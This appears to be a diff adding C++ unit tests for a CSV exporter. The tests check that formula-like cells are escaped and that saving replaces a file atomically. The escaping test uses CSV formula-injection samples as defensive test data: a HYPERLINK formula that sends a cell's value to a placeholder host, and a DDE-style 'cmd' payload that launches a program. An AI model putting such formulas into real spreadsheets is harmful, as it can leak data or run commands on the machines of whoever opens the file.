@@ -79,6 +79,17 @@ TEST(CsvExport, CommaAndLineBreakStayInsideTheQuotedField)
               "\"A\",\"B\"\r\n\"1,5\",\"first\r\nsecond\"\r\n");
 }
 
+TEST(CsvExport, CellsASpreadsheetWouldRunAreWrittenAsText)
+{
+    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
+              "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\"");
+    for (std::string cell : {"+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\t=1", "\r=1", "-", "-1,02"})
+        EXPECT_EQ(CsvField(cell), "\"'" + cell + "\"");
+    for (std::string cell : {"-1", "-1,024", "-3.5", "+12", "-.5", "-1,234,567.25", "a=b", ""})
+        EXPECT_EQ(CsvField(cell), "\"" + cell + "\"") << "numbers and other texts stay as they are";
+    EXPECT_EQ(CsvField("@SUM(1,2)", CsvCells::Raw), "\"@SUM(1,2)\"");
+}
+
 TEST(CsvExport, MissingCellsOfAShortRowAreEmpty)
 {
     EXPECT_EQ(Csv(Model({"A", "B", "C"}, {{"1"}})), "\"A\",\"B\",\"C\"\r\n\"1\",\"\",\"\"\r\n");
@@ -136,6 +147,27 @@ TEST_F(CsvFileTest, FullDiskGivesTheWriteError)
     ASSERT_EQ(reporter_.messages.size(), 1u);
     EXPECT_EQ(reporter_.messages[0].text, "File Write Error.\n\nFile Name : Z:\\dev\\full");
     EXPECT_EQ(reporter_.messages[0].flags, static_cast<UINT>(MB_ICONEXCLAMATION));
+    WIN32_FIND_DATAA found{};
+    EXPECT_EQ(FindFirstFileA("Z:\\dev\\~mirel*", &found), INVALID_HANDLE_VALUE)
+        << "a device is written directly, with no temporary file beside it";
+}
+
+TEST_F(CsvFileTest, SaveReplacesAFileWholeOrNotAtAll)
+{
+    TempFolder folder("mirel-csv-save");
+    const std::string path = folder.File("list.csv"), previous = "\"A\"\r\n\"a longer list\"\r\n";
+    WriteFileBytes(path, previous);
+    {
+        // A reader that does not let the file be deleted under it: it cannot be replaced.
+        ui::UniqueHandle reader(CreateFileA(path.c_str(), GENERIC_READ,
+                                            FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_EXISTING, 0, nullptr));
+        EXPECT_EQ(SaveCsv(Model({"A"}, {{"1"}}), path, reporter_), kExportWriteFailed);
+        EXPECT_EQ(reporter_.messages.at(0).text, "File Write Error.\n\nFile Name : " + path);
+    }
+    EXPECT_EQ(ReadFile(path), previous) << "byte for byte";
+    EXPECT_EQ(SaveCsv(Model({"A"}, {{"=1"}}), path, reporter_), kExportDone);
+    EXPECT_EQ(ReadFile(path), "\"A\"\r\n\"'=1\"\r\n") << "nothing of the longer file remains";
+    EXPECT_EQ(folder.Entries(), std::vector<std::string>{"list.csv"}) << "no temporary file";
 }
 
 TEST_F(CsvFileTest, FileSinkReportsAWriteAfterClosing)
